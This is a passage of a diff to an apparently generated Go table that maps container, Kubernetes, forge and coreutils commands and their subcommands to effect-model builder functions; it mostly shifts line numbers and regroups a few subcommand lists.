+		{line: 236, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"cluster-info"}, trigger: "", build: effectsContainersL236},
+		{line: 256, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"config"}, trigger: "", build: effectsContainersL256},
+		{line: 267, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"config"}, trigger: "", build: effectsContainersL267},
+		{line: 276, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"config"}, trigger: "", build: effectsContainersL276},
+		{line: 286, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"plugin"}, trigger: "", build: effectsContainersL286},
+		{line: 292, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"completion"}, trigger: "", build: effectsContainersL292},
+		{line: 300, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"kustomize"}, trigger: "", build: effectsContainersL300},
+		{line: 318, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"exec", "attach", "run", "debug"}, trigger: "", build: effectsContainersL318},
+		{line: 350, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"cp"}, trigger: "", build: effectsContainersL350},
+		{line: 362, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"port-forward"}, trigger: "", build: effectsContainersL362},
+		{line: 372, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"proxy"}, trigger: "", build: effectsContainersL372},
+		{line: 389, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"apply", "create", "replace", "delete", "patch", "label", "annotate", "scale", "autoscale", "expose", "set", "taint", "cordon", "uncordon", "drain", "certificate", "edit"}, trigger: "", build: effectsContainersL389},
+		{line: 426, kind: "program", exes: []string{"kubectl", "oc"}, subs: []string{"rollout"}, trigger: "", build: effectsContainersL426},
+		{line: 439, kind: "program", exes: []string{"oc"}, subs: []string{"whoami"}, trigger: "", build: effectsContainersL439},
+		{line: 452, kind: "program", exes: []string{"oc"}, subs: []string{"login", "logout", "project"}, trigger: "", build: effectsContainersL452},
+		{line: 464, kind: "program", exes: []string{"oc"}, subs: []string{"projects"}, trigger: "", build: effectsContainersL464},
+		{line: 471, kind: "program", exes: []string{"oc"}, subs: []string{"rsh", "new-app", "new-build", "start-build", "process"}, trigger: "", build: effectsContainersL471},
+		{line: 477, kind: "program", exes: []string{"oc"}, subs: []string{"rsync"}, trigger: "", build: effectsContainersL477},
+		{line: 491, kind: "program", exes: []string{"kubectx"}, subs: nil, trigger: "", build: effectsContainersL491},
+		{line: 502, kind: "program", exes: []string{"kubectx"}, subs: nil, trigger: "", build: effectsContainersL502},
+		{line: 512, kind: "program", exes: []string{"kubens"}, subs: nil, trigger: "", build: effectsContainersL512},
+		{line: 521, kind: "program", exes: []string{"kubens"}, subs: nil, trigger: "", build: effectsContainersL521},
+		{line: 530, kind: "program", exes: []string{"k9s"}, subs: nil, trigger: "", build: effectsContainersL530},
+		{line: 546, kind: "program", exes: []string{"k9s"}, subs: []string{"version", "info"}, trigger: "", build: effectsContainersL546},
+		{line: 556, kind: "program", exes: []string{"helm"}, subs: nil, trigger: "", build: effectsContainersL556},
+		{line: 576, kind: "program", exes: []string{"helm"}, subs: []string{"list", "ls", "status", "history", "hist"}, trigger: "", build: effectsContainersL576},
+		{line: 593, kind: "program", exes: []string{"helm"}, subs: []string{"get"}, trigger: "", build: effectsContainersL593},
+		{line: 604, kind: "program", exes: []string{"helm"}, subs: []string{"get"}, trigger: "", build: effectsContainersL604},
+		{line: 614, kind: "program", exes: []string{"helm"}, subs: []string{"install", "upgrade"}, trigger: "", build: effectsContainersL614},
+		{line: 647, kind: "program", exes: []string{"helm"}, subs: []string{"template", "lint"}, trigger: "", build: effectsContainersL647},
+		{line: 680, kind: "program", exes: []string{"helm"}, subs: []string{"show", "inspect"}, trigger: "", build: effectsContainersL680},
+		{line: 692, kind: "program", exes: []string{"helm"}, subs: []string{"search"}, trigger: "", build: effectsContainersL692},
+		{line: 702, kind: "program", exes: []string{"helm"}, subs: []string{"search"}, trigger: "", build: effectsContainersL702},
+		{line: 710, kind: "program", exes: []string{"helm"}, subs: []string{"version", "env", "completion"}, trigger: "", build: effectsContainersL710},
+		{line: 717, kind: "program", exes: []string{"helm"}, subs: []string{"repo", "plugin"}, trigger: "", build: effectsContainersL717},
+		{line: 725, kind: "program", exes: []string{"helm"}, subs: []string{"dependency", "dep"}, trigger: "", build: effectsContainersL725},
+		{line: 732, kind: "program", exes: []string{"helm"}, subs: []string{"repo", "dependency", "dep"}, trigger: "", build: effectsContainersL732},
+		{line: 744, kind: "program", exes: []string{"helm"}, subs: []string{"rollback", "test", "push", "pull", "fetch", "package", "registry", "plugin"}, trigger: "", build: effectsContainersL744},
+		{line: 752, kind: "program", exes: []string{"helm"}, subs: []string{"uninstall", "delete", "del", "un"}, trigger: "", build: effectsContainersL752},
+		{line: 763, kind: "program", exes: []string{"kustomize"}, subs: nil, trigger: "", build: effectsContainersL763},
+		{line: 770, kind: "program", exes: []string{"kustomize"}, subs: []string{"build"}, trigger: "", build: effectsContainersL770},
+		{line: 788, kind: "program", exes: []string{"kustomize"}, subs: []string{"version"}, trigger: "", build: effectsContainersL788},
+		{line: 795, kind: "program", exes: []string{"kustomize"}, subs: []string{"cfg"}, trigger: "", build: effectsContainersL795},
+		{line: 813, kind: "program", exes: []string{"docker"}, subs: nil, trigger: "", build: effectsContainersL813},
+		{line: 829, kind: "program", exes: []string{"podman"}, subs: nil, trigger: "", build: effectsContainersL829},
+		{line: 854, kind: "program", exes: []string{"nerdctl"}, subs: nil, trigger: "", build: effectsContainersL854},
+		{line: 867, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"ps"}, trigger: "", build: effectsContainersL867},
+		{line: 875, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container"}, trigger: "", build: effectsContainersL875},
+		{line: 883, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"images"}, trigger: "", build: effectsContainersL883},
 		{line: 890, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"image"}, trigger: "", build: effectsContainersL890},
-		{line: 897, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"system"}, trigger: "", build: effectsContainersL897},
-		{line: 904, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"volume", "network", "context", "plugin", "secret", "config", "node", "service", "stack", "pod", "machine", "builder", "buildx"}, trigger: "", build: effectsContainersL904},
-		{line: 911, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"context"}, trigger: "", build: effectsContainersL911},
-		{line: 917, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"secret"}, trigger: "", build: effectsContainersL917},
-		{line: 926, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"search"}, trigger: "", build: effectsContainersL926},
-		{line: 936, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"manifest"}, trigger: "", build: effectsContainersL936},
-		{line: 946, kind: "program", exes: []string{"docker", "podman"}, subs: []string{"compose"}, trigger: "", build: effectsContainersL946},
-		{line: 961, kind: "program", exes: []string{"docker", "podman"}, subs: []string{"compose"}, trigger: "", build: effectsContainersL961},
-		{line: 974, kind: "program", exes: []string{"docker-compose", "podman-compose"}, subs: []string{"ps", "images", "top", "ls", "version", "port"}, trigger: "", build: effectsContainersL974},
-		{line: 989, kind: "program", exes: []string{"docker-compose", "podman-compose"}, subs: []string{"logs"}, trigger: "", build: effectsContainersL989},
-		{line: 1005, kind: "program", exes: []string{"docker", "podman"}, subs: []string{"compose"}, trigger: "", build: effectsContainersL1005},
-		{line: 1024, kind: "program", exes: []string{"docker-compose", "podman-compose"}, subs: []string{"config", "convert"}, trigger: "", build: effectsContainersL1024},
-		{line: 1041, kind: "program", exes: []string{"docker-compose"}, subs: nil, trigger: "", build: effectsContainersL1041},
-		{line: 1055, kind: "program", exes: []string{"podman-compose"}, subs: nil, trigger: "", build: effectsContainersL1055},
-		{line: 1072, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"run", "create"}, trigger: "", build: effectsContainersL1072},
-		{line: 1097, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"exec", "start", "restart", "attach", "build"}, trigger: "", build: effectsContainersL1097},
-		{line: 1121, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container", "image", "buildx", "builder"}, trigger: "", build: effectsContainersL1121},
-		{line: 1127, kind: "program", exes: []string{"docker", "podman"}, subs: []string{"compose"}, trigger: "", build: effectsContainersL1127},
-		{line: 1144, kind: "program", exes: []string{"docker-compose", "podman-compose"}, subs: []string{"up", "run", "exec", "build", "create", "start", "restart"}, trigger: "", build: effectsContainersL1144},
-		{line: 1158, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"pull", "push"}, trigger: "", build: effectsContainersL1158},
-		{line: 1168, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"image", "compose"}, trigger: "", build: effectsContainersL1168},
-		{line: 1179, kind: "program", exes: []string{"docker-compose", "podman-compose"}, subs: []string{"pull", "push"}, trigger: "", build: effectsContainersL1179},
-		{line: 1190, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"login", "logout"}, trigger: "", build: effectsContainersL1190},
-		{line: 1201, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"cp"}, trigger: "", build: effectsContainersL1201},
-		{line: 1209, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container"}, trigger: "", build: effectsContainersL1209},
-		{line: 1217, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"save", "export"}, trigger: "", build: effectsContainersL1217},
-		{line: 1227, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"load"}, trigger: "", build: effectsContainersL1227},
-		{line: 1240, kind: "program", exes: []string{"ctr"}, subs: nil, trigger: "", build: effectsContainersL1240},
-		{line: 1248, kind: "program", exes: []string{"ctr"}, subs: []string{"version"}, trigger: "", build: effectsContainersL1248},
-		{line: 1253, kind: "program", exes: []string{"ctr"}, subs: []string{"images", "image", "i", "containers", "container", "c", "tasks", "task", "t", "namespaces", "namespace", "ns", "snapshots", "snapshot", "plugins", "plugin", "content", "leases"}, trigger: "", build: effectsContainersL1253},
-		{line: 1260, kind: "program", exes: []string{"ctr"}, subs: []string{"events", "event"}, trigger: "", build: effectsContainersL1260},
-		{line: 1265, kind: "program", exes: []string{"ctr"}, subs: []string{"run"}, trigger: "", build: effectsContainersL1265},
-		{line: 1271, kind: "program", exes: []string{"ctr"}, subs: []string{"tasks", "task", "t"}, trigger: "", build: effectsContainersL1271},
-		{line: 1277, kind: "program", exes: []string{"ctr"}, subs: []string{"images", "image", "i"}, trigger: "", build: effectsContainersL1277},
+		{line: 897, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"inspect"}, trigger: "", build: effectsContainersL897},
+		{line: 904, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container", "image", "volume", "network", "context", "pod", "machine", "config", "plugin", "node", "service"}, trigger: "", build: effectsContainersL904},
+		{line: 911, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"logs"}, trigger: "", build: effectsContainersL911},
+		{line: 918, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container", "pod"}, trigger: "", build: effectsContainersL918},
+		{line: 925, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"version", "info", "history", "port", "top", "stats", "diff", "events"}, trigger: "", build: effectsContainersL925},
+		{line: 934, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container"}, trigger: "", build: effectsContainersL934},
+		{line: 941, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"image"}, trigger: "", build: effectsContainersL941},
+		{line: 948, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"system"}, trigger: "", build: effectsContainersL948},
+		{line: 955, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"volume", "network", "context", "plugin", "secret", "config", "node", "service", "stack", "pod", "machine", "builder", "buildx"}, trigger: "", build: effectsContainersL955},
+		{line: 962, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"context"}, trigger: "", build: effectsContainersL962},
+		{line: 968, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"secret"}, trigger: "", build: effectsContainersL968},
+		{line: 977, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"search"}, trigger: "", build: effectsContainersL977},
+		{line: 987, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"manifest"}, trigger: "", build: effectsContainersL987},
+		{line: 997, kind: "program", exes: []string{"docker", "podman"}, subs: []string{"compose"}, trigger: "", build: effectsContainersL997},
+		{line: 1012, kind: "program", exes: []string{"docker", "podman"}, subs: []string{"compose"}, trigger: "", build: effectsContainersL1012},
+		{line: 1025, kind: "program", exes: []string{"docker-compose", "podman-compose"}, subs: []string{"ps", "images", "top", "ls", "version", "port"}, trigger: "", build: effectsContainersL1025},
+		{line: 1040, kind: "program", exes: []string{"docker-compose", "podman-compose"}, subs: []string{"logs"}, trigger: "", build: effectsContainersL1040},
+		{line: 1056, kind: "program", exes: []string{"docker", "podman"}, subs: []string{"compose"}, trigger: "", build: effectsContainersL1056},
+		{line: 1075, kind: "program", exes: []string{"docker-compose", "podman-compose"}, subs: []string{"config", "convert"}, trigger: "", build: effectsContainersL1075},
+		{line: 1092, kind: "program", exes: []string{"docker-compose"}, subs: nil, trigger: "", build: effectsContainersL1092},
+		{line: 1106, kind: "program", exes: []string{"podman-compose"}, subs: nil, trigger: "", build: effectsContainersL1106},
+		{line: 1123, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"run", "create"}, trigger: "", build: effectsContainersL1123},
+		{line: 1148, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"exec", "start", "restart", "attach", "build"}, trigger: "", build: effectsContainersL1148},
+		{line: 1172, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container", "image", "buildx", "builder"}, trigger: "", build: effectsContainersL1172},
+		{line: 1178, kind: "program", exes: []string{"docker", "podman"}, subs: []string{"compose"}, trigger: "", build: effectsContainersL1178},
+		{line: 1195, kind: "program", exes: []string{"docker-compose", "podman-compose"}, subs: []string{"up", "run", "exec", "build", "create", "start", "restart"}, trigger: "", build: effectsContainersL1195},
+		{line: 1209, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"pull", "push"}, trigger: "", build: effectsContainersL1209},
+		{line: 1219, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"image", "compose"}, trigger: "", build: effectsContainersL1219},
+		{line: 1230, kind: "program", exes: []string{"docker-compose", "podman-compose"}, subs: []string{"pull", "push"}, trigger: "", build: effectsContainersL1230},
+		{line: 1241, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"login", "logout"}, trigger: "", build: effectsContainersL1241},
+		{line: 1252, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"cp"}, trigger: "", build: effectsContainersL1252},
+		{line: 1260, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"container"}, trigger: "", build: effectsContainersL1260},
+		{line: 1268, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"save", "export"}, trigger: "", build: effectsContainersL1268},
+		{line: 1278, kind: "program", exes: []string{"docker", "podman", "nerdctl"}, subs: []string{"load"}, trigger: "", build: effectsContainersL1278},
+		{line: 1291, kind: "program", exes: []string{"ctr"}, subs: nil, trigger: "", build: effectsContainersL1291},
+		{line: 1299, kind: "program", exes: []string{"ctr"}, subs: []string{"version"}, trigger: "", build: effectsContainersL1299},
+		{line: 1304, kind: "program", exes: []string{"ctr"}, subs: []string{"images", "image", "i", "containers", "container", "c", "tasks", "task", "t", "namespaces", "namespace", "ns", "snapshots", "snapshot", "plugins", "plugin", "content", "leases"}, trigger: "", build: effectsContainersL1304},
+		{line: 1311, kind: "program", exes: []string{"ctr"}, subs: []string{"events", "event"}, trigger: "", build: effectsContainersL1311},
+		{line: 1316, kind: "program", exes: []string{"ctr"}, subs: []string{"run"}, trigger: "", build: effectsContainersL1316},
+		{line: 1322, kind: "program", exes: []string{"ctr"}, subs: []string{"tasks", "task", "t"}, trigger: "", build: effectsContainersL1322},
+		{line: 1328, kind: "program", exes: []string{"ctr"}, subs: []string{"images", "image", "i"}, trigger: "", build: effectsContainersL1328},
 	}},
 	{file: "effects/coreutils.toml", header: packHeader{Name: "effects-coreutils", Description: "Effect model of GNU coreutils: what each program reads, writes, deletes and runs.", Executables: []string{"ls", "dir", "vdir", "ll", "la", "cp", "mv", "rm", "rmdir", "ln", "link", "unlink", "mkdir", "touch", "chmod", "chown", "chgrp", "install", "df", "du", "head", "tail", "tac", "nl", "od", "split", "csplit", "cut", "paste", "join", "tr", "expand", "unexpand", "fold", "fmt", "pr", "uniq", "comm", "wc", "sum", "cksum", "b2sum", "md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "base32", "base64", "basenc", "basename", "dirname", "realpath", "readlink", "stat", "sync", "truncate", "shred", "tee", "printf", "echo", "test", "[", "true", "false", "yes", "seq", "factor", "numfmt", "expr", "date", "sleep", "env", "printenv", "id", "groups", "whoami", "uname", "arch", "nproc", "hostid", "pwd", "tty", "stty", "mktemp", "mkfifo", "mknod", "nice", "nohup", "timeout", "stdbuf", "chroot", "users", "who", "pinky", "logname", "shuf", "ptx", "tsort", "dircolors", "uptime"}}, blocks: []genBlock{
 		{line: 16, kind: "exe", exes: []string{"echo"}, subs: nil, trigger: "", build: effectsCoreutilsL16},
@@ -1066,40 +1074,41 @@ var generatedPacks = []genPack{
 	}},
 	{file: "effects/forges.toml", header: packHeader{Name: "effects-forges", Executables: []string{"gh", "glab", "hub", "tea", "git-lfs"}}, blocks: []genBlock{
 		{line: 12, kind: "program", exes: []string{"gh"}, subs: nil, trigger: "", build: effectsForgesL12},
-		{line: 29, kind: "program", exes: []string{"gh"}, subs: []string{"pr", "issue", "run", "workflow", "release", "repo", "gist", "label", "cache", "ruleset", "project", "secret", "variable", "codespace", "org", "attestation", "ssh-key", "gpg-key", "extension", "alias", "config", "auth", "status", "completion", "preview", "agent-task", "copilot"}, trigger: "", build: effectsForgesL29},
-		{line: 36, kind: "program", exes: []string{"gh"}, subs: []string{"pr", "issue", "run", "workflow", "release", "repo", "gist", "label", "cache", "ruleset", "project", "secret", "variable", "codespace", "org", "attestation", "ssh-key", "gpg-key", "extension", "alias", "config"}, trigger: "", build: effectsForgesL36},
-		{line: 53, kind: "program", exes: []string{"gh"}, subs: []string{"pr", "issue", "repo", "label", "secret", "variable", "cache", "run", "workflow", "ruleset", "project", "codespace", "org"}, trigger: "", build: effectsForgesL53},
-		{line: 74, kind: "program", exes: []string{"gh"}, subs: []string{"gist", "release", "ssh-key", "gpg-key"}, trigger: "", build: effectsForgesL74},
-		{line: 89, kind: "program", exes: []string{"gh"}, subs: []string{"gist", "release", "ssh-key", "gpg-key"}, trigger: "", build: effectsForgesL89},
-		{line: 102, kind: "program", exes: []string{"gh"}, subs: []string{"pr", "repo", "gist", "run", "release", "codespace"}, trigger: "", build: effectsForgesL102},
-		{line: 118, kind: "program", exes: []string{"gh"}, subs: []string{"auth"}, trigger: "", build: effectsForgesL118},
-		{line: 125, kind: "program", exes: []string{"gh"}, subs: []string{"auth"}, trigger: "", build: effectsForgesL125},
-		{line: 136, kind: "program", exes: []string{"gh"}, subs: []string{"auth"}, trigger: "", build: effectsForgesL136},
-		{line: 144, kind: "program", exes: []string{"gh"}, subs: []string{"api"}, trigger: "", build: effectsForgesL144},
-		{line: 155, kind: "program", exes: []string{"gh"}, subs: []string{"browse"}, trigger: "", build: effectsForgesL155},
-		{line: 164, kind: "program", exes: []string{"gh"}, subs: []string{"extension", "alias", "config", "completion", "copilot"}, trigger: "", build: effectsForgesL164},
-		{line: 172, kind: "program", exes: []string{"gh"}, subs: []string{"search"}, trigger: "", build: effectsForgesL172},
-		{line: 185, kind: "program", exes: []string{"glab"}, subs: nil, trigger: "", build: effectsForgesL185},
-		{line: 198, kind: "program", exes: []string{"glab"}, subs: []string{"mr", "issue", "ci", "pipeline", "release", "repo", "label", "snippet", "variable", "schedule", "project", "cluster", "deploy-key", "ssh-key", "gpg-key", "job", "incident", "milestone", "environment", "user", "stack", "changelog", "token", "iteration", "opentofu", "securefile", "runner", "check-update", "version", "auth", "config", "alias", "completion", "duo", "attestation"}, trigger: "", build: effectsForgesL198},
-		{line: 205, kind: "program", exes: []string{"glab"}, subs: []string{"mr", "issue", "ci", "pipeline", "release", "repo", "label", "snippet", "schedule", "project", "cluster", "deploy-key", "ssh-key", "gpg-key", "job", "incident", "milestone", "environment", "changelog", "iteration", "securefile", "runner", "alias"}, trigger: "", build: effectsForgesL205},
-		{line: 215, kind: "program", exes: []string{"glab"}, subs: []string{"mr", "issue", "repo", "label", "variable", "schedule", "project", "ci", "pipeline", "incident", "milestone", "environment", "deploy-key", "token"}, trigger: "", build: effectsForgesL215},
-		{line: 230, kind: "program", exes: []string{"glab"}, subs: []string{"release", "snippet", "ssh-key", "gpg-key", "securefile"}, trigger: "", build: effectsForgesL230},
-		{line: 243, kind: "program", exes: []string{"glab"}, subs: []string{"release", "snippet", "ssh-key", "gpg-key", "securefile"}, trigger: "", build: effectsForgesL243},
-		{line: 254, kind: "program", exes: []string{"glab"}, subs: []string{"mr", "repo", "ci", "job", "release", "securefile"}, trigger: "", build: effectsForgesL254},
-		{line: 269, kind: "program", exes: []string{"glab"}, subs: []string{"auth"}, trigger: "", build: effectsForgesL269},
-		{line: 280, kind: "program", exes: []string{"glab"}, subs: []string{"config", "variable"}, trigger: "", build: effectsForgesL280},
-		{line: 288, kind: "program", exes: []string{"glab"}, subs: []string{"api"}, trigger: "", build: effectsForgesL288},
-		{line: 298, kind: "program", exes: []string{"glab"}, subs: []string{"auth", "config", "alias", "duo", "stack", "cluster", "completion", "opentofu"}, trigger: "", build: effectsForgesL298},
-		{line: 306, kind: "program", exes: []string{"hub"}, subs: nil, trigger: "", build: effectsForgesL306},
-		{line: 319, kind: "program", exes: []string{"hub"}, subs: []string{"pull-request", "issue", "release", "ci-status", "compare", "create", "fork", "sync", "api", "gist", "delete", "pr"}, trigger: "", build: effectsForgesL319},
-		{line: 336, kind: "program", exes: []string{"hub"}, subs: []string{"browse"}, trigger: "", build: effectsForgesL336},
-		{line: 343, kind: "program", exes: []string{"tea"}, subs: nil, trigger: "", build: effectsForgesL343},
-		{line: 352, kind: "program", exes: []string{"tea"}, subs: []string{"pulls", "pull", "pr", "issues", "issue", "i", "releases", "release", "r", "repos", "repo", "labels", "label", "milestones", "milestone", "ms", "notifications", "notification", "n", "times", "time", "t", "branches", "branch", "organizations", "organization", "org", "comment", "c", "whoami", "admin", "webhooks", "webhook", "actions", "action", "open", "o", "clone", "logins", "login", "logout"}, trigger: "", build: effectsForgesL352},
-		{line: 359, kind: "program", exes: []string{"tea"}, subs: []string{"pulls", "pull", "pr", "issues", "issue", "i", "releases", "release", "r", "repos", "repo", "labels", "label", "milestones", "milestone", "ms", "notifications", "notification", "n", "times", "time", "t", "branches", "branch", "organizations", "organization", "org", "webhooks", "webhook"}, trigger: "", build: effectsForgesL359},
-		{line: 368, kind: "program", exes: []string{"tea"}, subs: []string{"pulls", "pull", "pr", "issues", "issue", "i", "releases", "release", "r", "repos", "repo", "labels", "label", "milestones", "milestone", "ms", "comment", "c", "times", "time", "t", "branches", "branch", "organizations", "organization", "org", "webhooks", "webhook"}, trigger: "", build: effectsForgesL368},
-		{line: 378, kind: "program", exes: []string{"git-lfs"}, subs: nil, trigger: "", build: effectsForgesL378},
-		{line: 387, kind: "program", exes: []string{"git-lfs"}, subs: []string{"ls-files", "status", "env", "version", "logs", "track", "locks", "ext", "fsck", "pointer"}, trigger: "", build: effectsForgesL387},
-		{line: 396, kind: "program", exes: []string{"git-lfs"}, subs: []string{"pull", "fetch", "push", "clone", "checkout", "install", "uninstall", "untrack", "migrate", "prune", "lock", "unlock", "update", "dedup", "smudge", "clean", "filter-process", "post-checkout", "post-commit", "post-merge", "pre-push", "standalone-file", "merge-driver"}, trigger: "", build: effectsForgesL396},
+		{line: 30, kind: "program", exes: []string{"gh"}, subs: []string{"pr", "issue", "run", "workflow", "release", "repo", "gist", "label", "cache", "ruleset", "project", "secret", "variable", "codespace", "org", "attestation", "ssh-key", "gpg-key", "extension", "alias", "config", "auth", "status", "completion", "preview", "agent-task", "copilot"}, trigger: "", build: effectsForgesL30},
+		{line: 37, kind: "program", exes: []string{"gh"}, subs: []string{"pr", "issue", "run", "workflow", "release", "repo", "gist", "label", "cache", "ruleset", "project", "secret", "variable", "codespace", "org", "attestation", "ssh-key", "gpg-key", "extension", "alias"}, trigger: "", build: effectsForgesL37},
+		{line: 58, kind: "program", exes: []string{"gh"}, subs: []string{"config"}, trigger: "", build: effectsForgesL58},
+		{line: 65, kind: "program", exes: []string{"gh"}, subs: []string{"pr", "issue", "repo", "label", "secret", "variable", "cache", "run", "workflow", "ruleset", "project", "codespace", "org"}, trigger: "", build: effectsForgesL65},
+		{line: 86, kind: "program", exes: []string{"gh"}, subs: []string{"gist", "release", "ssh-key", "gpg-key"}, trigger: "", build: effectsForgesL86},
+		{line: 101, kind: "program", exes: []string{"gh"}, subs: []string{"gist", "release", "ssh-key", "gpg-key"}, trigger: "", build: effectsForgesL101},
+		{line: 114, kind: "program", exes: []string{"gh"}, subs: []string{"pr", "repo", "gist", "run", "release", "codespace"}, trigger: "", build: effectsForgesL114},
+		{line: 130, kind: "program", exes: []string{"gh"}, subs: []string{"auth"}, trigger: "", build: effectsForgesL130},
+		{line: 137, kind: "program", exes: []string{"gh"}, subs: []string{"auth"}, trigger: "", build: effectsForgesL137},
+		{line: 148, kind: "program", exes: []string{"gh"}, subs: []string{"auth"}, trigger: "", build: effectsForgesL148},
+		{line: 156, kind: "program", exes: []string{"gh"}, subs: []string{"api"}, trigger: "", build: effectsForgesL156},
+		{line: 175, kind: "program", exes: []string{"gh"}, subs: []string{"browse"}, trigger: "", build: effectsForgesL175},
+		{line: 184, kind: "program", exes: []string{"gh"}, subs: []string{"extension", "alias", "config", "completion", "copilot"}, trigger: "", build: effectsForgesL184},
+		{line: 192, kind: "program", exes: []string{"gh"}, subs: []string{"search"}, trigger: "", build: effectsForgesL192},
+		{line: 207, kind: "program", exes: []string{"glab"}, subs: nil, trigger: "", build: effectsForgesL207},
+		{line: 221, kind: "program", exes: []string{"glab"}, subs: []string{"mr", "issue", "ci", "pipeline", "release", "repo", "label", "snippet", "variable", "schedule", "project", "cluster", "deploy-key", "ssh-key", "gpg-key", "job", "incident", "milestone", "environment", "user", "stack", "changelog", "token", "iteration", "opentofu", "securefile", "runner", "check-update", "version", "auth", "config", "alias", "completion", "duo", "attestation"}, trigger: "", build: effectsForgesL221},
+		{line: 228, kind: "program", exes: []string{"glab"}, subs: []string{"mr", "issue", "ci", "pipeline", "release", "repo", "label", "snippet", "schedule", "project", "cluster", "deploy-key", "ssh-key", "gpg-key", "job", "incident", "milestone", "environment", "changelog", "iteration", "securefile", "runner", "alias"}, trigger: "", build: effectsForgesL228},
+		{line: 241, kind: "program", exes: []string{"glab"}, subs: []string{"mr", "issue", "repo", "label", "variable", "schedule", "project", "ci", "pipeline", "incident", "milestone", "environment", "deploy-key", "token"}, trigger: "", build: effectsForgesL241},
+		{line: 256, kind: "program", exes: []string{"glab"}, subs: []string{"release", "snippet", "ssh-key", "gpg-key", "securefile"}, trigger: "", build: effectsForgesL256},
+		{line: 269, kind: "program", exes: []string{"glab"}, subs: []string{"release", "snippet", "ssh-key", "gpg-key", "securefile"}, trigger: "", build: effectsForgesL269},
+		{line: 280, kind: "program", exes: []string{"glab"}, subs: []string{"mr", "repo", "ci", "job", "release", "securefile"}, trigger: "", build: effectsForgesL280},
+		{line: 295, kind: "program", exes: []string{"glab"}, subs: []string{"auth"}, trigger: "", build: effectsForgesL295},
+		{line: 306, kind: "program", exes: []string{"glab"}, subs: []string{"config", "variable"}, trigger: "", build: effectsForgesL306},
+		{line: 314, kind: "program", exes: []string{"glab"}, subs: []string{"api"}, trigger: "", build: effectsForgesL314},
+		{line: 330, kind: "program", exes: []string{"glab"}, subs: []string{"auth", "config", "alias", "duo", "stack", "cluster", "completion", "opentofu"}, trigger: "", build: effectsForgesL330},
+		{line: 338, kind: "program", exes: []string{"hub"}, subs: nil, trigger: "", build: effectsForgesL338},
+		{line: 351, kind: "program", exes: []string{"hub"}, subs: []string{"pull-request", "issue", "release", "ci-status", "compare", "create", "fork", "sync", "api", "gist", "delete", "pr"}, trigger: "", build: effectsForgesL351},
+		{line: 368, kind: "program", exes: []string{"hub"}, subs: []string{"browse"}, trigger: "", build: effectsForgesL368},
+		{line: 375, kind: "program", exes: []string{"tea"}, subs: nil, trigger: "", build: effectsForgesL375},
+		{line: 384, kind: "program", exes: []string{"tea"}, subs: []string{"pulls", "pull", "pr", "issues", "issue", "i", "releases", "release", "r", "repos", "repo", "labels", "label", "milestones", "milestone", "ms", "notifications", "notification", "n", "times", "time", "t", "branches", "branch", "organizations", "organization", "org", "comment", "c", "whoami", "admin", "webhooks", "webhook", "actions", "action", "open", "o", "clone", "logins", "login", "logout"}, trigger: "", build: effectsForgesL384},
